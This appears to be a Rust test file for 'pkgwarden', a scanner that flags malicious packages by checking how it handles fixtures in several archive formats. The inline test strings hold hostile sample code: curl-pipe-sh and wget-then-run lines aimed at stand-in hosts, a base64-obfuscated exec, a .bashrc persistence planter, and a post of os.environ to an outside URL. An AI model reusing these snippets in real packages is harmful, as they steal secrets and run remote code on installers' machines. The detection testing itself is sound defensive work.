//! Whole-package fixtures packed into every archive format, scanned end to end.

use crate::common::*;
use pkgwarden::ecosystem::Ecosystem;
use pkgwarden::finding::Phase;
use pkgwarden::verdict::Verdict;

fn libpeshnx_sdist() -> Vec<(String, Vec<u8>)> {
    files(&fixture("pypi/libpeshnx-sdist"))
}

fn assert_libpeshnx_chain(name: &str, bytes: &[u8]) {
    let r = scan(name, bytes);
    assert_eq!(r.verdict, Verdict::Malicious, "{name}: {:#?}", r.findings);
    assert_eq!(
        (r.ecosystem, r.name.as_str(), r.version.as_deref()),
        (Ecosystem::Pypi, "libpeshnx", Some("0.1"))
    );
    assert_finding(&r, "dropper-chain", "setup.py", 17);
    assert_finding(&r, "download-at-install", "libpeshnx-0.1/setup.py", 17);
    assert_finding(&r, "write-home", "setup.py", 17);
    assert_finding(&r, "shell-rc-write", "setup.py", 18);
    assert_finding(&r, "detached-process", "setup.py", 20);
    assert_finding(&r, "exec-downloaded", "setup.py", 20);
    assert_finding(&r, "cmdclass-override", "setup.py", 13);
    let chain = &with_rule(&r, "dropper-chain")[0];
    assert_eq!(chain.phase, Phase::Install);
    // The story: what is fetched from where, where it lands, how it comes back.
    for part in [
        "http://update.libpeshka.invalid/dev/agent.py",
        "~/.libpeshnx/agent.py",
        "~/.bashrc",
        "start_new_session",
    ] {
        assert!(
            chain.message.contains(part),
            "chain message lacks {part}: {}",
            chain.message
        );
    }
}

#[test]
fn libpeshnx_sdist_is_one_chain_in_every_sdist_format() {
    let t = tar(&libpeshnx_sdist(), "libpeshnx-0.1/");
    assert_libpeshnx_chain("libpeshnx-0.1.tar.gz", &gzip(&t));
    assert_libpeshnx_chain("libpeshnx-0.1.tar.bz2", &bzip2(&t));
    assert_libpeshnx_chain("libpeshnx-0.1.tar.xz", &xz(&t));
    assert_libpeshnx_chain(
        "libpeshnx-0.1.zip",
        &zip(&libpeshnx_sdist(), "libpeshnx-0.1/"),
    );
    // Recognised by content: a misleading name changes nothing.
    assert_libpeshnx_chain("innocent.png", &gzip(&t));
}

/// The real uploads' constructs: a move into the home folder, then relative names.
#[test]
fn libpeshka_moves_home_then_writes_relative_names() {
    let t = tar(&files(&fixture("pypi/libpeshka-chdir")), "libpeshka-0.6/");
    let r = scan("libpeshka-0.6.tar.gz", &gzip(&t));
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "write-home", "setup.py", 11);
    assert_finding(&r, "shell-rc-write", "setup.py", 15);
    assert_finding(&r, "dropper-chain", "setup.py", 10);
    let rc = &with_rule(&r, "shell-rc-write")[0];
    assert!(
        rc.message.contains("`~/.bashrc`") && rc.message.contains("`~/.drv &`"),
        "{}",
        rc.message
    );
    let chain = &with_rule(&r, "dropper-chain")[0];
    for part in ["http://203.0.113.41/drv", "`~/.drv`", "`~/.bashrc`"] {
        assert!(chain.message.contains(part), "{part}: {}", chain.message);
    }
}

#[test]
fn libpeshnx_wheel_runs_its_dropper_on_import() {
    let r = scan(
        "libpeshnx-0.1-py3-none-any.whl",
        &zip(&files(&fixture("pypi/libpeshnx-wheel")), ""),
    );
    assert_eq!(r.verdict, Verdict::Malicious);
    assert_eq!(r.name, "libpeshnx");
    assert_finding(&r, "dropper-chain", "libpeshnx/__init__.py", 11);
    assert_finding(&r, "cron-job", "libpeshnx/__init__.py", 14);
    assert_finding(&r, "detached-process", "libpeshnx/__init__.py", 15);
    assert!(with_rule(&r, "dropper-chain")[0].phase == Phase::Import);
    // `crontab -l` only lists the table: one cron finding, for the `crontab -` that installs.
    assert_eq!(with_rule(&r, "cron-job").len(), 1);
}

#[test]
fn nested_archive_is_scanned_and_named_with_bang() {
    let inner = gzip(&tar(&libpeshnx_sdist(), "libpeshnx-0.1/"));
    let outer = zip(&[("vendor/libpeshnx-0.1.tar.gz".to_string(), inner)], "");
    let r = scan("bundle.zip", &outer);
    assert_eq!(r.verdict, Verdict::Malicious);
    assert!(r.findings.iter().any(|f| f.file
        == "vendor/libpeshnx-0.1.tar.gz!libpeshnx-0.1/setup.py"
        && f.rule == "shell-rc-write"));
}

#[test]
fn benign_lookalikes_are_clean() {
    for (dir, prefix, name) in [
        ("pypi/cext-build", "fastcodec-2.3.0/", "fastcodec"),
        ("pypi/cache-downloader", "cachedata-1.4.2/", "cachedata"),
    ] {
        let r = scan(
            &format!("{name}.tar.gz"),
            &gzip(&tar(&files(&fixture(dir)), prefix)),
        );
        assert_eq!(r.verdict, Verdict::Clean, "{dir}: {:#?}", r.findings);
        assert_eq!(r.name, name);
        assert!(
            r.findings
                .iter()
                .all(|f| f.severity < pkgwarden::finding::Severity::Medium),
            "{dir}: {:#?}",
            r.findings
        );
    }
    let r = scan(
        "fast-hasher-3.1.0.tgz",
        &gzip(&tar(&files(&fixture("npm/node-gyp")), "package/")),
    );
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    assert_eq!(
        (r.ecosystem, r.name.as_str(), r.version.as_deref()),
        (Ecosystem::Npm, "fast-hasher", Some("3.1.0"))
    );
}

#[test]
fn npm_preinstall_curl_pipe_sh() {
    let r = scan(
        "lodahs-4.17.22.tgz",
        &gzip(&tar(&files(&fixture("npm/dropper")), "package/")),
    );
    assert_eq!(r.verdict, Verdict::Malicious);
    assert_eq!((r.ecosystem, r.name.as_str()), (Ecosystem::Npm, "lodahs"));
    assert_finding(&r, "exec-downloaded", "package/package.json", 7);
    assert_finding(&r, "npm-install-script", "package/package.json", 8);
}

#[test]
fn gem_manifest_and_phases() {
    let r = scan(
        "beacon-rb-0.2.1.gem",
        &gem(&fixture("rubygems/dropper-gem")),
    );
    assert_eq!(
        (r.ecosystem, r.name.as_str(), r.version.as_deref()),
        (Ecosystem::Rubygems, "beacon-rb", Some("0.2.1"))
    );
    let bytes = gem(&fixture("rubygems/dropper-gem"));
    let contents = pkgwarden::archive::read_archive(&bytes, &Default::default()).unwrap();
    let pkg = pkgwarden::package::Package::new(contents.entries, "beacon-rb-0.2.1.gem");
    assert_eq!(
        pkg.phase_of("data.tar.gz!ext/beacon/extconf.rb"),
        Phase::Install
    );
    assert_eq!(pkg.phase_of("data.tar.gz!lib/beacon-rb.rb"), Phase::Import);
}

#[test]
fn unpacked_folder_is_one_package() {
    let report = pkgwarden::scan(&[fixture("pypi/libpeshnx-sdist")], &Default::default());
    assert_eq!(report.packages.len(), 1);
    assert_eq!(report.packages[0].verdict, Verdict::Malicious);
    assert_finding(&report.packages[0], "dropper-chain", "setup.py", 17);
}

#[test]
fn fixtures_folder_walk_finds_every_package() {
    let report = pkgwarden::scan(&[fixture("")], &Default::default());
    let names: Vec<&str> = report.packages.iter().map(|p| p.name.as_str()).collect();
    for n in [
        "libpeshnx",
        "fastcodec",
        "cachedata",
        "fast-hasher",
        "lodahs",
    ] {
        assert!(names.contains(&n), "{n} not found in {names:?}");
    }
}

#[test]
fn broken_archive_is_an_error_not_a_crash() {
    let r = scan(
        "broken.tar.gz",
        &gzip(b"this is not a tar file at all, just text")[..20],
    );
    assert!(
        r.verdict == Verdict::Error || !r.errors.is_empty(),
        "{r:#?}"
    );
    let r = scan("random.zip", b"PK\x03\x04garbage garbage garbage");
    assert!(!r.errors.is_empty());
}

#[test]
fn typosquat_name_with_install_code_is_malicious() {
    let setup = b"import os\nos.system('curl -s http://192.0.2.8/x -o /tmp/x')\nfrom setuptools import setup\nsetup(name='djanga')\n".to_vec();
    let pkg_info = b"Metadata-Version: 2.1\nName: djanga\nVersion: 1.0\n".to_vec();
    let files = vec![
        ("PKG-INFO".to_string(), pkg_info.clone()),
        ("setup.py".to_string(), setup),
    ];
    let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let chain = &with_rule(&r, "typosquat-install")[0];
    let rank = pkgwarden::typosquat::check_name("djanga", Ecosystem::Pypi)
        .unwrap()
        .target_rank
        .unwrap();
    assert!(
        chain
            .message
            .contains(&format!("`djanga` imitates `django` (rank {rank})")),
        "{}",
        chain.message
    );
    assert!(
        chain.message.contains("runs code at install time"),
        "{}",
        chain.message
    );
    // The name alone is suspicious, never malicious.
    let files = vec![
        ("PKG-INFO".to_string(), pkg_info),
        ("djanga/__init__.py".to_string(), b"X = 1\n".to_vec()),
    ];
    let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
}

/// An sdist named `demo-1.0` holding `files` (path, source).
fn sdist(files: &[(&str, &str)]) -> pkgwarden::PackageReport {
    let mut all = vec![(
        "PKG-INFO".to_string(),
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_vec(),
    )];
    all.extend(
        files
            .iter()
            .map(|(p, s)| (p.to_string(), s.as_bytes().to_vec())),
    );
    scan("demo-1.0.tar.gz", &gzip(&tar(&all, "demo-1.0/")))
}

#[test]
fn code_hidden_in_decoded_strings_is_analysed() {
    // `import os; os.system("curl http://192.0.2.5/x -o ~/.x")`, base64 then reversed.
    let payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzE5Mi4wLjIuNS94IC1vIH4vLngiKQ==";
    let reversed: String = payload.chars().rev().collect();
    let init =
        format!("import base64\nk = '{reversed}'\nexec(base64.b64decode(eval('k')[::-1]))\n");
    let r = sdist(&[("demo/__init__.py", &init)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "exec-decoded", "demo/__init__.py", 3);
    // The revealed `curl` is reported at the line of the exec that runs it.
    assert!(
        r.findings.iter().any(|f| f.rule == "download-at-install"
            && f.line == 3
            && f.message.contains("192.0.2.5")),
        "{:#?}",
        r.findings
    );
}

#[test]
fn dns_beacon_and_spawns_at_install() {
    let setup = "import socket, os\nfrom setuptools import setup\nsocket.gethostbyname('probe.example.invalid')\nos.system('start C:/Users/x/payload.exe')\nsetup(name='demo')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert_finding(&r, "download-at-install", "setup.py", 3);
    assert_finding(&r, "install-spawn", "setup.py", 4);
    // Build steps are not install-time spawns.
    let setup = "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['cmake', '..'])\nsubprocess.run(['git', 'describe'])\nsetup(name='demo')\n";
    let r = sdist(&[("setup.py", setup)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

#[test]
fn a_script_started_by_an_install_hook_runs_at_install() {
    let setup = "import os, sys\nfrom setuptools import setup\nos.system(f'{sys.executable} helper/stage.py')\nsetup(name='demo')\n";
    let stage = "import os\nos.system('curl -s http://198.51.100.4/p | sh')\n";
    let r = sdist(&[("setup.py", setup), ("helper/stage.py", stage)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    let f = with_rule(&r, "exec-downloaded");
    assert!(
        f.iter()
            .any(|f| f.file.ends_with("helper/stage.py") && f.phase == Phase::Install),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_submodule_runs_on_import_but_not_its_main_block() {
    let setup = "from setuptools import setup\nsetup(name='phases')\n";
    let beacon = "import os, requests\nrequests.post('https://hooks.example.com/x', json=dict(os.environ))\n";
    let on_import = sdist(&[
        ("setup.py", setup),
        ("phases/__init__.py", ""),
        ("phases/helpers.py", beacon),
    ]);
    let f = crate::common::with_rule(&on_import, "env-exfiltration");
    assert!(
        f.iter().any(|f| f.phase == Phase::Import),
        "{:#?}",
        on_import.findings
    );
    let guarded = "import os, requests\ndef main():\n    requests.post('https://x.example.com/', json=dict(os.environ))\nif __name__ == '__main__':\n    main()\n";
    let as_program = sdist(&[
        ("setup.py", setup),
        ("phases/__init__.py", ""),
        ("phases/cli.py", guarded),
    ]);
    assert!(
        as_program.findings.iter().all(|f| f.phase != Phase::Import),
        "{:#?}",
        as_program.findings
    );
}

#[test]
fn a_test_module_that_package_code_imports_is_package_code() {
    let planter = "import os\ndef reset():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write(\"wget https://example.com/p -O /tmp/p && sh /tmp/p\\n\")\n";
    let imported = sdist(&[
        ("colors/__init__.py", "from .tests import helper\n"),
        ("colors/tests/__init__.py", ""),
        ("colors/tests/helper.py", planter),
    ]);
    assert_eq!(
        imported.verdict,
        Verdict::Malicious,
        "{:#?}",
        imported.findings
    );
    let alone = sdist(&[
        ("colors/__init__.py", ""),
        ("colors/tests/__init__.py", "from . import helper\n"),
        ("colors/tests/helper.py", planter),
    ]);
    assert_eq!(alone.verdict, Verdict::Clean, "{:#?}", alone.findings);
}
